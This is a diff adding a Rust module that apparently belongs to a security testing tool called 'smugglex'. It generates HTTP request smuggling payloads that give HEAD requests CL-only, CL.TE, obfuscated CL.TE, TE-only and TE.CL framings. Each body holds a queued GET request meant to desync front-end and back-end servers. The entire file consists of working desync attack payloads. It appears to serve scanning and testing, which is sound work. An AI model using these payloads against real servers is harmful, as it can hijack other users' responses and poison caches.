@@ -0,0 +1,102 @@
+use super::{PayloadIter, RequestParts};
+
+/// Request prefix every HEAD payload declares as its body. A back-end that
+/// does not read bodies on HEAD leaves it queued, so the next request on the
+/// connection is answered for this path instead of its own.
+const HEAD_QUEUED_PREFIX: &str = "GET /smugglex-head-queued HTTP/1.1\r\nX-Ignore: x";
+
+/// Chunk carried by the TE.CL payload: a complete request whose declared body
+/// absorbs the chunked terminator and the start of the next request.
+const HEAD_TE_CL_CHUNK: &str =
+    "GET /smugglex-head-queued HTTP/1.1\r\nContent-Length: 15\r\n\r\nx=1";
+
+/// Name of each [`head_framings`] entry.
+const HEAD_FRAMING_NAMES: [&str; 5] = [
+    "cl-only",
+    "cl-te",
+    "cl-te-space-before-colon",
+    "te-only",
+    "te-cl",
+];
+
+/// Framings of the HEAD body: the header lines and the body.
+fn head_framings() -> Vec<(String, String)> {
+    let cl_te_body = format!("0\r\n\r\n{}", HEAD_QUEUED_PREFIX);
+    let chunk_size = format!("{:x}", HEAD_TE_CL_CHUNK.len());
+    vec![
+        // Content-Length only
+        (
+            format!("Content-Length: {}", HEAD_QUEUED_PREFIX.len()),
+            HEAD_QUEUED_PREFIX.to_string(),
+        ),
+        // CL.TE
+        (
+            format!(
+                "Content-Length: {}\r\nTransfer-Encoding: chunked",
+                cl_te_body.len()
+            ),
+            cl_te_body.clone(),
+        ),
+        // CL.TE, space before colon
+        (
+            format!(
+                "Content-Length: {}\r\nTransfer-Encoding : chunked",
+                cl_te_body.len()
+            ),
+            cl_te_body.clone(),
+        ),
+        // Transfer-Encoding only
+        ("Transfer-Encoding: chunked".to_string(), cl_te_body),
+        // TE.CL
+        (
+            format!(
+                "Content-Length: {}\r\nTransfer-Encoding: chunked",
+                chunk_size.len() + 2
+            ),
+            format!("{}\r\n{}\r\n0\r\n\r\n", chunk_size, HEAD_TE_CL_CHUNK),
+        ),
+    ]
+}
+
+/// Generate HEAD payloads declaring a body with CL/TE framing. HEAD responses
+/// never have a body, and many servers skip reading a HEAD request's body too,
+/// so a hop that forwards the body to one that ignores it queues the bytes as
+/// the start of the next request.
+pub fn head_payloads(
+    path: &str,
+    host: &str,
+    _method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, "HEAD", custom_headers, cookies);
+    let framings = head_framings();
+    PayloadIter::new(framings.len(), move |i| {
+        let (framing, body) = &framings[i];
+        format!(
+            "{} {} HTTP/1.1\r\n\
+             Host: {}\r\n\
+             Connection: keep-alive\r\n\
+             {}\
+             {}\
+             {}\r\n\
+             \r\n\
+             {}",
+            parts.method, parts.path, parts.host, parts.headers, parts.cookies, framing, body
+        )
+    })
+    .named(|i, _| HEAD_FRAMING_NAMES[i].to_string())
+}
+
+/// Eagerly collected [`head_payloads`]
+pub fn get_head_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    head_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}